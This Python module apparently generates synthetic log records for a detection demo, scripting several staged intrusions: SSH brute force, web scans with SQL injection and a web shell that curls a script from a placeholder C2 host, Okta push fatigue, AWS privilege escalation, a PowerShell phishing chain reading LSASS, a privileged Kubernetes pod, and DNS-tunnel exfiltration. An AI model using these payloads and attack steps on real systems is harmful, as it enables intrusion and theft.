"""The intrusions in the story. Each function yields the records of one of them, from its first moment `at`.

They follow what defenders report: the same steps in the same order; the noise between them is left to the
background.
"""

import random
from collections.abc import Iterator
from typing import Any

from tocsin.demo import formats
from tocsin.demo.cast import (
    ATTACKER_CLOUD,
    ATTACKER_CLUSTER,
    ATTACKER_CODE,
    ATTACKER_IDENTITY,
    ATTACKER_REMOTE,
    ATTACKER_SSH,
    ATTACKER_WEB,
    BASTION,
    BY_LOGIN,
    C2_ADDRESS,
    C2_DOMAIN,
    EXFIL_DOMAIN,
    NAME_SERVER,
    PEOPLE,
    REPOS,
    TOOL_HASH,
    VPN_GATEWAY,
    WEB_HOSTS,
)
from tocsin.demo.formats import Record
from tocsin.demo.happening import MINUTE, SECOND, Happening


def ssh_brute_force(at: int, rng: random.Random) -> Iterator[Record]:
    """Passwords are guessed on the bastion until one is right; the visitor becomes root and adds a user."""
    names = ("root", "admin", "ubuntu", "deploy", "oracle", "git")
    for attempt in range(64):
        at += rng.randrange(1200, 3800)
        name = rng.choice(names)
        invalid = "" if name in ("root", "deploy") else "invalid user "
        port = rng.randrange(32_000, 60_000)
        text = f"Failed password for {invalid}{name} from {ATTACKER_SSH} port {port} ssh2"
        yield formats.sshd(at, BASTION, text, 4000 + attempt)
    at += 4 * SECOND
    yield formats.sshd(at, BASTION, f"Accepted password for deploy from {ATTACKER_SSH} port 51123 ssh2", 4101)
    yield formats.sshd(
        at + 300, BASTION, "pam_unix(sshd:session): session opened for user deploy(uid=1003) by deploy(uid=0)", 4101
    )
    sudo = "deploy : TTY=pts/2 ; PWD=/home/deploy ; USER=root ; COMMAND={}"
    for command in ("/usr/bin/cat /etc/shadow", "/usr/sbin/useradd -m -s /bin/bash svc-backup", "/usr/bin/crontab -e"):
        at += rng.randrange(15, 50) * SECOND
        yield formats.sshd(at, BASTION, sudo.format(command), 4120, program="sudo")
    yield formats.sshd(
        at + 2000,
        BASTION,
        "new user: name=svc-backup, UID=1011, GID=1011, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/2",
        4133,
        program="useradd",
    )


def web_attack(at: int, rng: random.Random) -> Iterator[Record]:
    """The shop is scanned, SQL injection is tried, and a file that was uploaded answers commands."""
    scanner = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
    probes = (
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/index.php",
        "/actuator/env",
        "/server-status",
        "/backup.zip",
        "/admin/config.php",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/cgi-bin/luci/;stok=/locale",
        "/.aws/credentials",
        "/solr/admin/info/system",
    )
    host = rng.choice(WEB_HOSTS)
    for round_number in range(9):
        for probe in probes:
            at += rng.randrange(80, 420)
            path = probe if round_number == 0 else f"/old{round_number}{probe}"
            status = 403 if "git" in path else 404
            yield formats.access(at, host, ATTACKER_WEB, f"GET {path} HTTP/1.1", status, 162, agent=scanner)
    injections = (
        "/search?q=oak%27%20OR%20%271%27=%271",
        "/search?q=oak%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/lamps/desk-lamp-oak?id=1;SELECT%20pg_sleep(5)",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/download?file=../../../../etc/passwd",
    )
    at += 3 * MINUTE
    for _ in range(4):
        for injection in injections:
            at += rng.randrange(900, 2600)
            status = 500 if "UNION" in injection else 200
            yield formats.access(at, host, ATTACKER_WEB, f"GET {injection} HTTP/1.1", status, 3120, agent="sqlmap/1.9")
    at += 6 * MINUTE
    for command in ("id", "uname+-a", "cat+/etc/passwd", f"curl+http://{C2_ADDRESS}/x.sh+-o+/tmp/x"):
        at += rng.randrange(5, 20) * SECOND
        request = f"GET /uploads/avatar.php?cmd={command} HTTP/1.1"
        yield formats.access(at, host, ATTACKER_WEB, request, 200, 411, agent="curl/8.14.1")


def identity_takeover(at: int, rng: random.Random) -> Iterator[Record]:
    """One password is tried on everybody; one person is worn down by push requests; the intruder settles in."""
    place: dict[str, Any] = {"city": "Quezon City", "country": "Philippines"}
    agent = "python-requests/2.32.5"
    for person in PEOPLE:
        at += rng.randrange(4, 11) * SECOND
        yield formats.okta(
            at,
            person,
            "user.session.start",
            "User login to Okta",
            ATTACKER_IDENTITY,
            result="FAILURE",
            reason="INVALID_CREDENTIALS",
            severity="WARN",
            agent=agent,
            **place,
        )
    victim = BY_LOGIN["paul.kerr"]
    at += 8 * MINUTE
    for _ in range(7):
        at += rng.randrange(20, 45) * SECOND
        yield formats.okta(
            at,
            victim,
            "user.mfa.okta_verify.deny_push",
            "User rejected Okta push verify",
            ATTACKER_IDENTITY,
            result="FAILURE",
            reason="User rejected Okta push verify",
            severity="WARN",
            agent=agent,
            **place,
        )
    at += 40 * SECOND
    for event_type, display in (
        ("user.authentication.auth_via_mfa", "Authentication of user via MFA"),
        ("user.session.start", "User login to Okta"),
    ):
        at += 2 * SECOND
        yield formats.okta(at, victim, event_type, display, ATTACKER_IDENTITY, agent=agent, **place)
    at += 2 * MINUTE
    yield formats.okta(
        at,
        victim,
        "user.mfa.factor.activate",
        "Activate factor or authenticator enrollment",
        ATTACKER_IDENTITY,
        agent=agent,
        target=[{"type": "User", "alternateId": victim.email, "displayName": victim.name}],
        **place,
    )
    at += 4 * MINUTE
    yield formats.okta(
        at,
        BY_LOGIN["dan.weaver"],
        "user.account.privilege.grant",
        "Grant user privilege",
        ATTACKER_IDENTITY,
        agent=agent,
        target=[{"type": "User", "alternateId": victim.email, "displayName": victim.name}],
        debug={"privilegeGranted": "Super administrator"},
        **place,
    )
    yield formats.okta(
        at + 30 * SECOND,
        victim,
        "system.api_token.create",
        "Create API token",
        ATTACKER_IDENTITY,
        agent=agent,
        target=[{"type": "Token", "displayName": "backup-sync"}],
        **place,
    )


def cloud_takeover(at: int, rng: random.Random) -> Iterator[Record]:
    """A leaked key looks around, is refused, makes itself a second identity, blinds the trail and takes the secrets."""
    agent = "aws-cli/1.44.2 md/Botocore#1.42.2 ua/2.1 os/linux#6.8.0-kali lang/python#3.13.2"

    def call(event_source: str, event_name: str, **more: Any) -> Record:
        return formats.cloudtrail(
            at,
            "ci-deploy",
            f"{event_source}.amazonaws.com",
            event_name,
            ATTACKER_CLOUD,
            agent=agent,
            mfa=False,
            **more,
        )

    yield call("sts", "GetCallerIdentity")
    refused = (
        "ListUsers",
        "ListRoles",
        "GetAccountAuthorizationDetails",
        "ListAccessKeys",
        "ListGroups",
        "ListPolicies",
    )
    for name in refused * 3:
        at += rng.randrange(700, 2400)
        yield call("iam", name, error="AccessDenied")
    at += 3 * MINUTE
    yield call("iam", "CreateUser", request={"userName": "svc-monitoring"})
    at += 20 * SECOND
    yield call(
        "iam",
        "AttachUserPolicy",
        request={"userName": "svc-monitoring", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
    )
    at += 15 * SECOND
    yield call(
        "iam",
        "CreateAccessKey",
        request={"userName": "svc-monitoring"},
        response={"accessKey": {"userName": "svc-monitoring", "status": "Active"}},
    )
    at += 2 * MINUTE
    yield call("cloudtrail", "StopLogging", request={"name": "larkspur-trail"})
    at += MINUTE
    for number in range(26):
        at += rng.randrange(300, 1500)
        yield call("secretsmanager", "GetSecretValue", request={"secretId": f"prod/service-{number}/credentials"})
    at += 2 * MINUTE
    yield call(
        "ec2",
        "AuthorizeSecurityGroupIngress",
        request={
            "groupId": "sg-0b1c2d3e4f",
            "ipPermissions": {
                "items": [
                    {
                        "ipProtocol": "tcp",
                        "fromPort": 22,
                        "toPort": 22,
                        "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]},
                    }
                ]
            },
        },
    )
    at += MINUTE
    yield call(
        "s3",
        "PutBucketPolicy",
        request={
            "bucketName": "larkspur-backups",
            "bucketPolicy": {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}]},
        },
    )
    at += MINUTE
    yield formats.cloudtrail(
        at,
        "root",
        "signin.amazonaws.com",
        "ConsoleLogin",
        ATTACKER_CLOUD,
        root=True,
        region="us-east-1",
        response={"ConsoleLogin": "Success"},
        extra={"additionalEventData": {"MFAUsed": "No", "MobileVersion": "No"}},
    )


def code_theft(at: int, rng: random.Random) -> Iterator[Record]:
    """A stolen token clones what it can see, opens a repository to the world and leaves a key behind."""
    token = {"programmatic_access_type": "Personal access token (classic)", "user_agent": "git/2.51.0"}
    for _ in range(3):
        for repo in REPOS:
            at += rng.randrange(2, 9) * SECOND
            yield formats.github(at, "felix.moreau", "git.clone", ATTACKER_CODE, repo=repo, extra=token)
    at += 4 * MINUTE
    yield formats.github(at, "felix.moreau", "protected_branch.destroy", ATTACKER_CODE, repo="infrastructure")
    at += MINUTE
    yield formats.github(
        at,
        "felix.moreau",
        "repo.access",
        ATTACKER_CODE,
        repo="data-pipelines",
        extra={"visibility": "public", "previous_visibility": "private"},
    )
    at += MINUTE
    yield formats.github(
        at,
        "felix.moreau",
        "public_key.create",
        ATTACKER_CODE,
        repo="infrastructure",
        extra={"title": "deploy", "read_only": "false"},
    )


def workstation_compromise(at: int, rng: random.Random) -> Iterator[Record]:
    """A letter's attachment runs PowerShell; memory of LSASS is read; the domain gets a new administrator."""
    computer, user = "LARK-LENA", "LARKSPUR\\lena"
    yield formats.sysmon(
        at,
        computer,
        1,
        {
            "ProcessId": 7120,
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
            "User": user,
            "ParentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            "ParentCommandLine": '"WINWORD.EXE" /n "C:\\Users\\lena\\Downloads\\Invoice 4471.docm"',
            "IntegrityLevel": "Medium",
        },
    )
    at += 6 * SECOND
    yield formats.sysmon(
        at - 400,
        computer,
        22,
        {
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "User": user,
            "QueryName": f"cdn.{C2_DOMAIN}",
            "QueryStatus": "0",
            "QueryResults": f"::ffff:{C2_ADDRESS};",
        },
    )
    yield formats.sysmon(
        at,
        computer,
        3,
        {
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "User": user,
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": "10.30.1.24",
            "SourcePort": 50211,
            "DestinationIp": C2_ADDRESS,
            "DestinationPort": 443,
        },
    )
    at += 20 * SECOND
    yield formats.sysmon(
        at,
        computer,
        1,
        {
            "ProcessId": 7188,
            "Image": r"C:\Users\Public\upd.exe",
            "CommandLine": r"C:\Users\Public\upd.exe",
            "User": user,
            "Hashes": f"SHA256={TOOL_HASH.upper()}",
            "ParentImage": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "ParentCommandLine": "powershell.exe",
            "IntegrityLevel": "Medium",
        },
    )
    at += 3 * MINUTE
    yield formats.sysmon(
        at,
        computer,
        1,
        {
            "ProcessId": 7301,
            "Image": r"C:\Windows\System32\schtasks.exe",
            "CommandLine": r"schtasks /create /sc minute /mo 20 /tn Updater /tr C:\Users\Public\upd.exe /ru SYSTEM",
            "User": user,
            "ParentImage": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "ParentCommandLine": "powershell.exe",
            "IntegrityLevel": "High",
        },
    )
    at += 2 * MINUTE
    yield formats.sysmon(
        at,
        computer,
        10,
        {
            "SourceImage": r"C:\Users\Public\upd.exe",
            "TargetImage": r"C:\Windows\system32\lsass.exe",
            "GrantedAccess": "0x1410",
            "SourceUser": user,
            "TargetUser": r"NT AUTHORITY\SYSTEM",
            "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d1e4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(01D)",
        },
    )
    at += 5 * MINUTE
    for person in PEOPLE:
        for _ in range(2):
            at += rng.randrange(700, 1900)
            yield formats.security(
                at,
                "LARK-DC1",
                4625,
                {
                    "TargetUserName": person.login.split(".")[0],
                    "TargetDomainName": "LARKSPUR",
                    "LogonType": "3",
                    "IpAddress": "10.30.1.24",
                    "WorkstationName": computer,
                    "Status": "0xc000006d",
                    "SubStatus": "0xc000006a",
                },
            )
    at += 4 * MINUTE
    subject = {"SubjectUserName": "svc-deploy", "SubjectDomainName": "LARKSPUR"}
    yield formats.security(
        at, "LARK-DC1", 4720, {"TargetUserName": "helpdesk2", "TargetDomainName": "LARKSPUR"} | subject
    )
    at += 20 * SECOND
    yield formats.security(
        at,
        "LARK-DC1",
        4728,
        {"TargetUserName": "Domain Admins", "MemberName": "CN=helpdesk2,CN=Users,DC=larkspur,DC=example"} | subject,
    )
    at += 9 * MINUTE
    yield formats.windows(
        at,
        "LARK-DC1",
        "Security",
        "Microsoft-Windows-Eventlog",
        1102,
        {"SubjectUserName": "helpdesk2", "SubjectDomainName": "LARKSPUR"},
    )


def cluster_intrusion(at: int, rng: random.Random) -> Iterator[Record]:
    """The cluster answers an anonymous caller; secrets are listed, a privileged pod starts, a shell is opened in it."""
    anonymous = ("system:unauthenticated",)
    for _ in range(6):
        at += rng.randrange(2, 8) * SECOND
        yield formats.kubernetes(at, "system:anonymous", "list", "pods", ATTACKER_CLUSTER, groups=anonymous)
    at += MINUTE
    account = "system:serviceaccount:shop:storefront"
    for namespace in ("shop", "payments", "kube-system"):
        at += 5 * SECOND
        yield formats.kubernetes(at, account, "list", "secrets", ATTACKER_CLUSTER, namespace=namespace)
    at += 2 * MINUTE
    pod = {
        "spec": {
            "hostPID": True,
            "containers": [{"name": "debug", "image": "alpine", "securityContext": {"privileged": True}}],
            "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
        }
    }
    yield formats.kubernetes(at, account, "create", "pods", ATTACKER_CLUSTER, name="debug", code=201, request=pod)
    at += 20 * SECOND
    yield formats.kubernetes(
        at, account, "create", "pods", ATTACKER_CLUSTER, name="debug", subresource="exec", code=101
    )


def remote_takeover(at: int, rng: random.Random) -> Iterator[Record]:
    """A password fits the VPN; mail is sent on, an application may read the directory, documents are shared with
    strangers, and what is found inside leaves by the names of DNS queries.
    """
    victim, inside = BY_LOGIN["ruth.amari"], "10.31.0.23"
    for attempt in range(28):
        at += rng.randrange(4, 14) * SECOND
        person = PEOPLE[attempt % len(PEOPLE)]
        text = "AAA user authentication Rejected : reason = AAA failure : server = 10.20.0.8"
        who = f"user = {person.login} : user IP = {ATTACKER_REMOTE}"
        yield formats.anyconnect(at, VPN_GATEWAY, 113005, f"{text} : {who}")
    at += 20 * SECOND
    session = f"Group <Staff> User <{victim.login}> IP <{ATTACKER_REMOTE}>"
    yield formats.anyconnect(at, VPN_GATEWAY, 113039, f"{session} AnyConnect parent session started.")
    yield formats.anyconnect(
        at + 900, VPN_GATEWAY, 722051, f"{session} IPv4 Address <{inside}> IPv6 address <::> assigned to session"
    )

    def activity(application: str, kind: str, name: str, **parameters: Any) -> Record:
        return formats.workspace(at, victim.email, application, kind, name, ATTACKER_REMOTE, parameters)

    at += 3 * MINUTE
    yield activity("login", "login", "login_success", login_type="google_password", is_suspicious=True)
    at += 2 * MINUTE
    yield activity(
        "user_accounts",
        "email_forwarding_change",
        "email_forwarding_out_of_domain",
        email_forwarding_destination_address=f"archive@{EXFIL_DOMAIN}",
    )
    at += MINUTE
    scopes = ["https://www.googleapis.com/auth/admin.directory.user.readonly", "https://mail.google.com/"]
    yield activity("token", "auth", "authorize", app_name="Mail archive helper", client_type="WEB", scope=scopes)
    for number in range(30):
        at += rng.randrange(2, 9) * SECOND
        yield activity(
            "drive",
            "acl_change",
            "change_user_access",
            doc_id=f"1larkspur{number:03}",
            doc_title=f"Customer list {number + 1}",
            target_user=f"archive@{EXFIL_DOMAIN}",
            visibility="shared_externally",
            visibility_change="external",
        )
    at += 4 * MINUTE
    for number in range(40):
        at += rng.randrange(900, 4000)
        chunk = f"{number:02x}" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(44))
        yield formats.name_query(at, NAME_SERVER, inside, f"{chunk}.t.{EXFIL_DOMAIN}", "TXT")


SCHEDULE: tuple[tuple[int, Happening], ...] = (
    (6 * 1440 - 190, web_attack),
    (5 * 1440 - 320, workstation_compromise),
    (4 * 1440 - 75, ssh_brute_force),
    (3 * 1440 - 410, code_theft),
    (2 * 1440 - 140, identity_takeover),
    (26 * 60, cluster_intrusion),
    (19 * 60, web_attack),
    (9 * 60, identity_takeover),
    (4 * 60, ssh_brute_force),
    (150, workstation_compromise),
    (75, cloud_takeover),
    (40, code_theft),
    (22, cluster_intrusion),
    (3 * 1440 - 95, remote_takeover),
    (110, remote_takeover),
)
"""When each intrusion begins, in minutes before the end of the story."""
